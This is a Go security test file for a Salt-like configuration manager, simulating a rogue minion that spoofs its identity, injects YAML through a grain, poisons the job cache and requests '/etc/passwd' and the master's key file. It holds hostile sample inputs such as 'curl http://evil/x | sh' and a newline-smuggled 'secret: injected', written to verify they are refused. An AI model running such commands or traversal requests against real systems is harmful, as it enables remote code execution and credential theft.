package security

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/brine-cm/brine/pkg/proto"
	"github.com/brine-cm/brine/test/harness"
)

const grainsPillar = `
-- top.sls --
base:
  '*':
    - common
  'm1':
    - m1
-- common.sls --
role: {{ grains.get('role', 'none') }}
{% if salt['file.file_exists'](grains.get('leakpath', '/nonexistent')) %}
leak: {{ salt['file.read'](grains['leakpath']) | json }}
{% endif %}
-- m1.sls --
secret: m1-only
-- etc/decoy --
inside the pillar roots
`

// Class 5: grains are what a minion says, never who it is. Before, a
// minion that sent grains {"id": "db1"} received db1's pillar, a grain
// with newlines added keys to pillar, and a pillar template that put a
// grain in a salt['file.read'] path read the master's own keys.
func TestGrainsAreUntrusted(t *testing.T) {
	e := harness.NewEnv(t, states, grainsPillar, "")
	ev := newEvil(t, e, "evil")
	issuer := filepath.Join(e.Dir, "master", "issuer.nk")
	pillarOf := func() (map[string]any, error) {
		var r proto.PillarReply
		if err := ask(ev.nc, proto.SubjPillar("evil"), &proto.PillarRequest{ID: "evil"}, &r); err != nil {
			return nil, err
		}
		var p map[string]any
		return p, json.Unmarshal(r.Pillar, &p)
	}
	send := func(g map[string]any) {
		_ = ev.nc.Publish(proto.SubjGrains("evil"), ev.marshal(&proto.Grains{ID: "m1", Grains: g}))
		_ = ev.nc.Flush()
	}

	send(map[string]any{"id": "m1", "role": "web", "leakpath": issuer})
	var p map[string]any
	harness.CheckFor(t, 10*time.Second, 300*time.Millisecond, func() error {
		var err error
		if p, err = pillarOf(); err != nil {
			return err
		}
		if p["role"] != "web" {
			return fmt.Errorf("pillar does not show the grains yet: %v", p)
		}
		return nil
	})
	if _, ok := p["secret"]; ok {
		t.Errorf("evil, claiming id m1, got m1's pillar: %v", p)
	}
	if _, ok := p["leak"]; ok {
		t.Errorf("a grain chose a file on the master that pillar read: %v", p)
	}

	// A path inside the pillar roots is read there, and only there.
	time.Sleep(time.Second) // the grains rate limit
	send(map[string]any{"role": "web2", "leakpath": "/etc/decoy"})
	harness.CheckFor(t, 10*time.Second, 300*time.Millisecond, func() error {
		var err error
		if p, err = pillarOf(); err != nil {
			return err
		}
		if s, _ := p["leak"].(string); strings.TrimSpace(s) != "inside the pillar roots" {
			return fmt.Errorf("pillar: %v", p)
		}
		return nil
	})

	// A grain with a newline is refused, not spliced into YAML.
	time.Sleep(time.Second)
	send(map[string]any{"role": "x\nsecret: injected"})
	e.Master.WaitLog(`control characters`, 1, 10*time.Second)
	if p, err := pillarOf(); err != nil || p["secret"] != nil || p["role"] != "web2" {
		t.Errorf("after a grain with a newline, pillar = %v, %v", p, err)
	}
}

// Class 7: only the master writes job records, and a minion's return is
// kept only for a job sent to it (or a run it started itself). Before,
// a return marked as a startup run rewrote the record of any job id it
// named, and returns with 400 KB arguments broke `brine jobs list`.
func TestJobCacheCannotBePoisoned(t *testing.T) {
	e := newEnv(t, "")
	ev := newEvil(t, e, "evil")
	op := e.Operator(false, proto.OperatorInbox)
	jid := proto.NewJID(time.Now())
	var pub proto.PublishReply
	if err := ask(op, proto.SubjPublish, &proto.PublishRequest{JID: jid, Target: "m1", TargetType: proto.TargetList,
		Fun: "test.ping", Timeout: proto.Duration(5 * time.Second)}, &pub); err != nil {
		t.Fatal(err)
	}
	evilArgs := []any{"curl http://evil/x | sh"}
	// Claim m1's job as a startup run of evil's, by ack and by return.
	_ = ev.nc.Publish(proto.SubjAck("evil", jid), ev.marshal(&proto.Ack{JID: jid, ID: "evil", Startup: true, Fun: "cmd.run", Args: evilArgs}))
	store := func(ret *proto.Return) error {
		var st proto.Stored
		return ask(ev.nc, proto.SubjReturn("evil", ret.JID), ret, &st)
	}
	if err := store(&proto.Return{JID: jid, ID: "evil", Fun: "state.highstate", Startup: true, Return: "pwned"}); err == nil {
		t.Errorf("a return for m1's job from evil was stored")
	}
	// Startup runs with huge arguments, or of functions a minion does
	// not start by itself.
	big := []any{strings.Repeat("a", 400<<10)}
	for i := 0; i < 3; i++ {
		j := proto.NewJID(time.Now())
		if err := store(&proto.Return{JID: j, ID: "evil", Fun: "state.sls", Args: big, Startup: true, Return: "x"}); err == nil {
			t.Errorf("a startup return with a 400 KB argument was stored")
		}
		time.Sleep(time.Millisecond)
	}
	j := proto.NewJID(time.Now())
	if err := store(&proto.Return{JID: j, ID: "evil", Fun: "cmd.run", Args: evilArgs, Startup: true, Return: "x"}); err == nil {
		t.Errorf("a startup return of cmd.run was stored")
	}
	// An honest startup run is recorded.
	j = proto.NewJID(time.Now())
	if err := store(&proto.Return{JID: j, ID: "evil", Fun: "state.highstate", Startup: true, Return: map[string]any{}}); err != nil {
		t.Errorf("an honest startup return: %v", err)
	}

	out, errOut, code := e.Brine("jobs", "list")
	if code != 0 {
		t.Fatalf("jobs list: %d %s%s", code, out, errOut)
	}
	if strings.Contains(out, "curl") || strings.Contains(out, "aaaaaaaa") {
		t.Errorf("jobs list shows what evil wrote:\n%s", out)
	}
	var lr proto.JobLookupReply
	harness.CheckFor(t, 10*time.Second, 100*time.Millisecond, func() error {
		if err := askParts(op, proto.SubjJobsLookup, &proto.JobsRequest{JID: jid}, &lr); err != nil {
			return err
		}
		if _, ok := lr.Returns["m1"]; !ok {
			return fmt.Errorf("no return from m1 yet")
		}
		return nil
	})
	if lr.Job.Fun != "test.ping" || len(lr.Returns) != 1 {
		t.Errorf("m1's job after the attack: fun %q, returns %v", lr.Job.Fun, lr.Returns)
	}
}

// Class 9: the read-only operator sees how jobs ended, not what their
// returns hold (pillar.items: secrets), unless readonly_returns says so.
func TestReadOnlySeesNoReturnData(t *testing.T) {
	e := newEnv(t, "")
	out, errOut, code := e.Brine("m1", "pillar.items", "--out", "json")
	if code != 0 || !strings.Contains(out, "m1-only") {
		t.Fatalf("pillar.items: %d %s%s", code, out, errOut)
	}
	var jid string
	ro := e.Operator(true, proto.ReadOnlyInbox)
	var jl proto.JobsListReply
	if err := askParts(ro, proto.ReadOnlySubject(proto.SubjJobsList), &proto.JobsRequest{}, &jl); err != nil {
		t.Fatal(err)
	}
	for _, j := range jl.Jobs {
		if j.Fun == "pillar.items" {
			jid = j.JID
		}
	}
	if jid == "" {
		t.Fatalf("no pillar.items job in %+v", jl.Jobs)
	}
	var lr proto.JobLookupReply
	if err := askParts(ro, proto.ReadOnlySubject(proto.SubjJobsLookup), &proto.JobsRequest{JID: jid}, &lr); err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(lr)
	if strings.Contains(string(b), "m1-only") || !lr.Redacted {
		t.Errorf("the read-only operator read a return's data: %s", b)
	}
	if r, ok := lr.Returns["m1"]; !ok || !r.Success {
		t.Errorf("the read-only operator does not see how the job ended: %s", b)
	}
	ro2 := filepath.Join(e.Dir, "master", "readonly.nk")
	out, _, _ = e.Brine("jobs", "lookup", jid, "--creds", ro2)
	if strings.Contains(out, "m1-only") {
		t.Errorf("brine jobs lookup --creds readonly.nk shows the secret:\n%s", out)
	}
	// The operator sees it all.
	out, _, _ = e.Brine("jobs", "lookup", jid)
	if !strings.Contains(out, "m1-only") {
		t.Errorf("the operator's lookup lacks the return:\n%s", out)
	}
}

// Class 10: no master paths leak, and large returns arrive whole.
func TestNoLeaksAndLargeReturnsArriveWhole(t *testing.T) {
	e := newEnv(t, "")
	ev := newEvil(t, e, "evil")
	var info proto.FileInfo
	if err := ask(ev.nc, proto.SubjFile("evil"), &proto.FileRequest{Path: "files/hello.txt"}, &info); err != nil {
		t.Fatal(err)
	}
	for _, i := range []int{-1, 1, 1 << 30} {
		var c proto.Chunk
		err := ask(ev.nc, proto.SubjFileChunk("evil"), &proto.ChunkRequest{SHA256: info.SHA256, Index: i, ChunkV: proto.ChunkVersion}, &c)
		if err == nil {
			t.Errorf("chunk %d of a one-chunk file was served", i)
		} else if strings.Contains(err.Error(), e.Dir) {
			t.Errorf("chunk %d: the error names the master's path: %v", i, err)
		}
	}
	for _, p := range []string{"../master/issuer.nk", "/etc/passwd", "nothere"} {
		var fi proto.FileInfo
		err := ask(ev.nc, proto.SubjFile("evil"), &proto.FileRequest{Path: p}, &fi)
		if err == nil || strings.Contains(err.Error(), e.Dir) {
			t.Errorf("file %s: %v", p, err)
		}
	}

	// 3 MB of output: more than one message, whole in the command's
	// output and in the job cache.
	const n = 3 << 20
	out, errOut, code := e.Brine("m1", "cmd.run", fmt.Sprintf(`head -c %d /dev/zero | tr '\0' a`, n), "--out", "json", "-t", "30")
	if code != 0 || strings.Count(out, "a") < n {
		t.Fatalf("cmd.run of %d bytes: exit %d, %d a's\n%s", n, code, strings.Count(out, "a"), harness.Tail(errOut, 500))
	}
	jid := ""
	var jl proto.JobsListReply
	op := e.Operator(false, proto.OperatorInbox)
	if err := askParts(op, proto.SubjJobsList, &proto.JobsRequest{}, &jl); err != nil {
		t.Fatal(err)
	}
	for _, j := range jl.Jobs {
		if j.Fun == "cmd.run" {
			jid = j.JID
		}
	}
	var lr proto.JobLookupReply
	harness.CheckFor(t, 10*time.Second, 200*time.Millisecond, func() error {
		if err := askParts(op, proto.SubjJobsLookup, &proto.JobsRequest{JID: jid}, &lr); err != nil {
			return err
		}
		s, _ := lr.Returns["m1"].Return.(string)
		if len(s) != n {
			return fmt.Errorf("the job cache holds %d bytes of the return", len(s))
		}
		return nil
	})
}
